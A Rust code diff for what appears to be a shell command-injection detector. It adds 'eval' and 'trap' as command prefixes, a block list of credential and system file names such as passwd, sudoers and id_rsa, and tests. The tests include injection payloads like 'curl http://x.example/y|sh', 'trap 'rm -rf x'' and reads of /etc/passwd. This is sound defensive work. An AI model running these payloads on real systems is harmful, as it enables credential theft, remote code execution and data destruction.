@@ -246,6 +246,8 @@ const DISTINCT: &[&str] = &[
     "fold",
     "uconv",
     "lastlog",
+    // FreeBSD's lastlog.
+    "lastlogin",
     "visudo",
     "c89",
     "c99",
@@ -325,10 +327,28 @@ const DISTINCT: &[&str] = &[
     ".system",
 ];
 
-/// Commands that run the command after them (`time curl x`, `nohup sh -c`).
+/// Commands that run the command after them (`time curl x`, `nohup sh -c`); `eval` and `trap`
+/// run their argument (`trap 'rm -rf x' EXIT`), which normalising has unquoted.
 const PREFIX: &[&str] = &[
     "time", "nohup", "nice", "timeout", "sudo", "env", "xargs", "flock", "cpulimit", "watch", "strace",
-    "chroot", "exec", "command", "builtin",
+    "chroot", "exec", "command", "builtin", "eval", "trap",
+];
+
+/// Files whose name alone, as a command's argument after a separator, is an attack on the
+/// system: the ones `pathTraversal` names by path, read from their own directory
+/// (`cd /etc;column passwd`). None of them is an English word.
+const SECRET_FILES: &[&str] = &[
+    "passwd",
+    "master.passwd",
+    "gshadow",
+    "sudoers",
+    ".htpasswd",
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    "authorized_keys",
+    ".bash_history",
 ];
 
 /// Short tool names that are not words: after `&`, or right before a separator, they are commands.
@@ -776,6 +796,8 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
             || arg.contains("://")
             || arg.starts_with("c:")))
         || next.is_some_and(|n| n == b'>' || n == b'<');
+    // `;column passwd`: a system file read from its own directory.
+    let secret_file = had_space && arg.rsplit('/').next().is_some_and(|f| SECRET_FILES.contains(&f));
     // A host or address argument: `ping 10.0.0.1`, `nslookup x.example.com`.
     let host_arg = (had_space && arg.split('.').count() >= 3 && arg.len() > 4)
         || (cmd == "net"
@@ -876,7 +898,15 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
                 && line
                     .split_whitespace()
                     .any(|w| w.starts_with('!') || w.contains(":!"));
-            if shell_arg || host_arg || delay_arg || end_or_sep || !wordy || subexpression || editor_escape {
+            if shell_arg
+                || host_arg
+                || delay_arg
+                || end_or_sep
+                || !wordy
+                || subexpression
+                || editor_escape
+                || secret_file
+            {
                 Some("command after separator")
             } else {
                 None
@@ -2194,6 +2224,47 @@ mod tests {
         shape_cases(
             &["{,$\"whoami\",}", "{$\"id\",}"],
             &["{\"id\",\"name\"}", "{\"a\",\"\"}", "{,\"x\",}"],
+        );
+    }
+
+    #[test]
+    fn system_files_read_from_their_directory() {
+        shape_cases(
+            &[
+                "cd /;cd etc;column passwd",
+                "cd /etc;fold passwd",
+                "CD /;CD ETC;COMM PASSWD PASSWD",
+                ";cat .htpasswd",
+                "|head id_rsa",
+                "x\nless ../etc/passwd",
+            ],
+            &[
+                "reset password; more passwords",
+                "light; more shadow",
+                "forgot passwd",
+                "change your passwd; see help",
+                "keys; sort authorized",
+            ],
+        );
+    }
+
+    #[test]
+    fn commands_that_run_their_argument() {
+        shape_cases(
+            &[
+                ";trap 'rm -rf x' SIGEXIT",
+                ";trap \"curl http://x.example/y|sh\" EXIT",
+                "|eval 'cat /etc/passwd'",
+                ";lastlogin -u admin",
+                "|lastlogin",
+            ],
+            &[
+                "a trap; trap music",
+                "it's a trap",
+                "trap cat food",
+                "eval tips; eval results",
+                "Status: active; last login 2 days ago",
+            ],
         );
     }
 
